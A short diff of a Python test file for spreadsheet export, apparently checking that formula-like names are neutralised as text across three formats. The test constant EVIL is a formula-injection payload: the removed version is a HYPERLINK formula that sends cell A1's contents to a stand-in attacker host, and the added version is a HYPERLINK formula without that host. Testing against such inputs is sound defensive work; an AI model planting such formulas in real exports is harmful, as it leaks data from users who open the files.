@@ -166,7 +166,7 @@ def test_text_cells_are_neutralised_numbers_are_not() -> None:
     ]
 
 
-EVIL = '=HYPERLINK("http://evil.example/?x="&A1;"Ambérieu")'
+EVIL = "=HYPERLINK(A1&A2,Ambérieu)"
 
 
 def test_formula_like_names_stay_text_in_all_three_formats(
